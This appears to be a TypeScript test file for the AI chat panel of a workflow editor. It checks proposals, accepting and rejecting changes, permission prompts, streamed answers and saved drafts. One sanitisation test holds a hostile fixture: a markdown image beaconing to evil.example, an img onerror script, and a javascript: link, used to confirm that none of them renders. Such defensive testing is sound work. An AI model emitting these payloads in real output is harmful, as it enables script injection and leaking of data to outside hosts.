import { screen, waitFor, within } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { expect, test } from "vitest";
import { json } from "#/testing/fake-api.ts";
import { explanationShown } from "#/testing/fake-failure.ts";
import { RUN, WORKFLOW } from "#/testing/fake-state.ts";
import { renderPage } from "#/testing/render-page.tsx";

const EDITOR = `/w/${WORKFLOW}`;

test("a proposal shows its assumptions, its next starts and its changes", async () => {
	renderPage(EDITOR);
	const log = await screen.findByRole("log", { name: "Conversation" });
	expect(await within(log).findByText("“9” is 09:00 in Europe/Berlin")).toBeVisible();
	expect(within(log).getByText("Next 5 starts")).toBeVisible();
	expect(within(log).getByText("Remove “E-mail a summary”")).toBeVisible();
	expect(await screen.findByText(/Nothing is saved yet/)).toBeVisible();
});

test("a plan says who wrote it, what it cost and what is to be noted", async () => {
	renderPage(EDITOR);
	const log = await screen.findByRole("log", { name: "Conversation" });
	const told = "Written by scripted-1 (draft_patch@2) · 1200 tokens in, 80 out · 0.0042 USD";
	expect(await within(log).findByText(told)).toBeVisible();
	expect(within(log).getByText("The zone is that of the workspace.")).toBeVisible();
});

test("accepting all sends the whole proposal and takes the ghost away", async () => {
	const { api } = renderPage(EDITOR);
	await userEvent.click(await screen.findByRole("button", { name: "Accept all" }));
	await waitFor(() => expect(screen.queryByText(/Nothing is saved yet/)).toBeNull());
	expect(api.calls.some((call) => /POST \/proposals\/.*\/accept/.test(call))).toBe(true);
	expect(api.state.document.steps?.map((step) => step.id)).not.toContain("mail");
});

test("picked changes are the only ones that are sent", async () => {
	const bodies: unknown[] = [];
	renderPage(EDITOR, (request) => {
		if (request.url.endsWith("/accept"))
			void request
				.clone()
				.json()
				.then((body) => bodies.push(body));
		return null;
	});
	await userEvent.click(await screen.findByRole("button", { name: "Pick changes" }));
	await userEvent.click(await screen.findByRole("checkbox", { name: /Remove “E-mail a summary”/ }));
	await userEvent.click(screen.getByRole("button", { name: "Accept 1 change" }));
	await waitFor(() => expect(bodies).toEqual([{ hunks: [0], reach: [] }]));
});

test("what is newly reached is ticked by itself before anything can be accepted", async () => {
	const bodies: unknown[] = [];
	const toAllow = ["recipients: #deals", "scopes: slack: slack.post_message"];
	const { api } = renderPage(EDITOR, (request) => {
		if (request.url.endsWith("/accept"))
			void request
				.clone()
				.json()
				.then((body) => bodies.push(body));
		return null;
	});
	api.state.toAllow = toAllow;
	const tick = await screen.findByRole("checkbox", { name: "I allow what is new in this:" });
	expect(tick).toHaveAccessibleDescription(/#deals · May do: slack: Post a Slack message/);
	expect(screen.getByRole("button", { name: "Accept all" })).toBeDisabled();
	await userEvent.click(tick);
	await userEvent.click(screen.getByRole("button", { name: "Accept all" }));
	await waitFor(() => expect(bodies).toEqual([{ hunks: null, reach: toAllow }]));
});

test("a proposal is explained step by step before anything is decided", async () => {
	const { api } = renderPage(EDITOR);
	await userEvent.click(await screen.findByRole("button", { name: "Explain" }));
	const told = await screen.findByRole("list", { name: "Explain" });
	expect(told).toHaveTextContent(/Keep orders over 500 changed.*over 100.*over 500/);
	expect(told).toHaveTextContent(/E-mail a summary removed/);
	expect(api.calls.some((call) => call.startsWith("POST /proposals"))).toBe(false);
});

test("what somebody else has said stands under their name, one's own under none", async () => {
	renderPage(EDITOR, (request) => {
		if (!request.url.endsWith("/messages")) return null;
		const said = (id: string, by: object | null, words: string) => ({
			id,
			role: "user",
			created_at: "2026-11-22T21:00:00Z",
			metadata: by,
			parts: [{ type: "text", text: words }],
		});
		const items = [
			said("m1", { user_id: "u1", name: "Ada Lovelace" }, "from me"),
			said("m2", { user_id: "u2", name: "Bob" }, "from Bob"),
			said("m3", null, "from before"),
		];
		return json({ items });
	});
	const log = await screen.findByRole("log", { name: "Conversation" });
	expect(await within(log).findByRole("article", { name: "Bob" })).toHaveTextContent("from Bob");
	expect(within(log).getAllByRole("article", { name: "You" })).toHaveLength(2);
});

const QUESTION = { id: "q", text: "At what time: at 9 or at 10?", choices: ["9", "10"], path: "" };
const RULES = { planner: "offline", model: null, prompt: null, tokens_in: null, tokens_out: null };
const PLAN = { kind: "question", summary: QUESTION.text, made_by: { ...RULES, usd: null } };
const NOTHING = { assumptions: [], unsupported: [], fire_times: [], notes: [] };
const ASKED = {
	id: "m2",
	role: "assistant",
	parts: [
		{ type: "text", text: `Almost. ${QUESTION.text}` },
		{ type: "data-plan", data: { ...PLAN, ...NOTHING } },
		{ type: "data-question", data: QUESTION },
	],
};

function said(id: string, words: string) {
	return { id, role: "user", metadata: null, parts: [{ type: "text", text: words }] };
}

function transcriptOf(...items: object[]) {
	return (request: Request) => (request.url.endsWith("/messages") ? json({ items }) : null);
}

test("what is asked stands once, with its answers, and who wrote it below", async () => {
	renderPage(EDITOR, transcriptOf(said("m1", "post it"), ASKED));
	const log = await screen.findByRole("log", { name: "Conversation" });
	expect(await within(log).findByText("Almost.")).toBeVisible();
	const asked = within(log).getByText(QUESTION.text);
	const answers = within(log).getByRole("button", { name: "10" });
	const by = within(log).getByText("Written by rules");
	expect(asked.compareDocumentPosition(answers)).toBe(Node.DOCUMENT_POSITION_FOLLOWING);
	expect(answers.compareDocumentPosition(by)).toBe(Node.DOCUMENT_POSITION_FOLLOWING);
});

test("a question that something was said to has no answers to click any more", async () => {
	renderPage(EDITOR, transcriptOf(said("m1", "post it"), ASKED, said("m3", "at 10")));
	const log = await screen.findByRole("log", { name: "Conversation" });
	expect(await within(log).findByText(QUESTION.text)).toBeVisible();
	expect(within(log).queryByRole("button", { name: "10" })).toBeNull();
});

test("an answer that was not finished says so and when, and is asked for again", async () => {
	const bodies: string[] = [];
	const data = { message: "The model is away.", at: "2026-11-22T21:00:00Z" };
	const failed = { id: "m4", role: "assistant", parts: [{ type: "data-failure", data }] };
	const shown = transcriptOf(said("m1", "post it"), ASKED, said("m3", "at 10"), failed);
	renderPage(EDITOR, (request) => {
		if (request.method === "POST" && request.url.includes("/chat/"))
			void request
				.clone()
				.text()
				.then((body) => bodies.push(body));
		return shown(request);
	});
	const log = await screen.findByRole("log", { name: "Conversation" });
	expect(await within(log).findByText("The model is away.")).toBeVisible();
	expect(within(log).getByText(/^Sun 22 Nov/).parentElement).toHaveTextContent(/^Not finished · /);
	await userEvent.click(within(log).getByRole("button", { name: "Try again" }));
	await waitFor(() => expect(bodies.join()).toContain("at 10"));
});

test("stopping is asked of the service, whose last word is read to its end", async () => {
	let answer: ReadableStreamDefaultController<Uint8Array> | undefined;
	const told = (chunk: object) =>
		answer?.enqueue(new TextEncoder().encode(`data: ${JSON.stringify(chunk)}\n\n`));
	renderPage(EDITOR, (request) => {
		if (request.method !== "POST" || !request.url.includes("/chat/")) return null;
		if (request.url.endsWith("/cancel")) {
			told({ type: "text-start", id: "t" });
			told({ type: "text-delta", id: "t", delta: "Stopped by Ada." });
			told({ type: "text-end", id: "t" });
			told({ type: "finish" });
			answer?.close();
			return json({ stopped: true, stopped_by: "Ada" });
		}
		const body = new ReadableStream<Uint8Array>({
			start: (controller) => {
				answer = controller;
				told({ type: "start", messageId: "m9" });
			},
		});
		return new Response(body, {
			headers: { "content-type": "text/event-stream", "x-vercel-ai-ui-message-stream": "v1" },
		});
	});
	await userEvent.type(await screen.findByLabelText("Ask for a change"), "skip the e-mail{Enter}");
	await userEvent.click(await screen.findByRole("button", { name: "Stop" }));
	const log = screen.getByRole("log", { name: "Conversation" });
	expect(await within(log).findByText("Stopped by Ada.")).toBeVisible();
	expect(await screen.findByRole("button", { name: "Send" })).toBeVisible();
});

test("rejecting leaves the draft alone", async () => {
	const { api } = renderPage(EDITOR);
	const before = structuredClone(api.state.document);
	await userEvent.click(await screen.findByRole("button", { name: "Reject" }));
	expect(await screen.findByText(/Rejected/)).toBeVisible();
	expect(api.state.document).toEqual(before);
});

test("what is said is sent with the browser's time zone, and only the new message", async () => {
	const bodies: {
		message?: { parts: { text: string }[] };
		timezone?: string;
		messages?: unknown;
	}[] = [];
	renderPage(EDITOR, (request) => {
		if (request.method === "POST" && request.url.includes("/chat/")) {
			void request
				.clone()
				.json()
				.then((body) => bodies.push(body));
		}
		return null;
	});
	await userEvent.type(await screen.findByLabelText("Ask for a change"), "skip the e-mail{Enter}");
	await waitFor(() => expect(bodies).toHaveLength(1));
	expect(bodies[0]?.message?.parts[0]?.text).toBe("skip the e-mail");
	expect(bodies[0]?.timezone).toBe(Intl.DateTimeFormat().resolvedOptions().timeZone);
	expect(bodies[0]?.messages).toBeUndefined();
});

test("answers carry no pictures and no script", async () => {
	const hostile =
		"Look ![x](https://evil.example/?d=1) <img src=x onerror=alert(1)> [go](javascript:alert(1))";
	const { container } = renderPage(EDITOR, (request) =>
		request.url.endsWith("/messages")
			? new Response(
					JSON.stringify({
						items: [{ id: "m", role: "assistant", parts: [{ type: "text", text: hostile }] }],
					}),
					{ headers: { "content-type": "application/json" } },
				)
			: null,
	);
	await screen.findByText(/Look/);
	const log = within(container).getByRole("log");
	expect(log.querySelector("img")).toBeNull();
	expect(log.querySelector('a[href^="javascript"]')).toBeNull();
});

test("why a run failed is told with what it rests on, and leads to the page of the run", async () => {
	const told = explanationShown();
	const data = { ...told, evidence: told.fix?.evidence ?? null };
	const words = told.sentences.map((one) => one.text).join(" ");
	const parts = [
		{ type: "data-explanation", data },
		{ type: "text", text: words },
	];
	renderPage(EDITOR, (request) =>
		request.url.endsWith("/messages")
			? json({ items: [{ id: "m1", role: "assistant", parts }] })
			: null,
	);
	const log = await screen.findByRole("log", { name: "Conversation" });
	expect(await within(log).findByText(/Slack refused the second message/)).toBeVisible();
	expect(within(log).getByRole("link", { name: "event 10" })).toBeVisible();
	expect(within(log).getByText(/ends well if the following holds/)).toBeVisible();
	expect(log.textContent?.split("Slack refused the second message")).toHaveLength(2);
	const way = within(log).getByRole("link", { name: /See the run/ });
	expect(way).toHaveAttribute("href", `/runs/${RUN}`);
});

test("what was typed and not sent is there again after a lost session, until somebody signs out", async () => {
	const first = renderPage(EDITOR);
	const field = () => screen.findByRole("textbox", { name: "Ask for a change" });
	await userEvent.type(await field(), "and tell Ann");
	first.unmount();
	const second = renderPage(EDITOR);
	expect(await field()).toHaveValue("and tell Ann");
	await userEvent.click(screen.getByRole("button", { name: /Your account/ }));
	await userEvent.click(await screen.findByRole("menuitem", { name: "Log out" }));
	await screen.findByRole("heading", { name: "Welcome back" });
	second.unmount();
	renderPage(EDITOR);
	expect(await field()).toHaveValue("");
});

test("while a model writes, the draft and its steps so far are shown, and gone when the answer comes", async () => {
	let answer: ReadableStreamDefaultController<Uint8Array> | undefined;
	const told = (chunk: object) =>
		answer?.enqueue(new TextEncoder().encode(`data: ${JSON.stringify(chunk)}\n\n`));
	const news = (draft: number, steps: string[]) => {
		const data = { draft, of: 3, steps, tokens_in: 900, tokens_out: 40, usd: 0.01 };
		told({ type: "data-progress", id: "progress-t", data, transient: true });
	};
	renderPage(EDITOR, (request) => {
		if (request.method !== "POST" || !request.url.includes("/chat/")) return null;
		const body = new ReadableStream<Uint8Array>({
			start: (controller) => {
				answer = controller;
				told({ type: "start", messageId: "m9" });
				news(1, ["Fetch the orders"]);
			},
		});
		return new Response(body, {
			headers: { "content-type": "text/event-stream", "x-vercel-ai-ui-message-stream": "v1" },
		});
	});
	await userEvent.type(await screen.findByLabelText("Ask for a change"), "skip the e-mail{Enter}");
	const drafting = await screen.findByRole("region", { name: "What is being written" });
	expect(drafting).toHaveTextContent("Draft 1 of 3 · about 900 tokens in, 40 out · 0.0100 USD");
	expect(within(drafting).getByRole("listitem")).toHaveTextContent("Fetch the orders");
	news(2, ["Fetch the orders", "Post them"]);
	await waitFor(() => expect(drafting).toHaveTextContent("Draft 2 of 3"));
	expect(within(drafting).getAllByRole("listitem")).toHaveLength(2);
	told({ type: "text-start", id: "t" });
	told({ type: "text-delta", id: "t", delta: "Here it is." });
	told({ type: "text-end", id: "t" });
	told({ type: "finish" });
	answer?.close();
	expect(await screen.findByText("Here it is.")).toBeVisible();
	await waitFor(() =>
		expect(screen.queryByRole("region", { name: "What is being written" })).toBeNull(),
	);
});
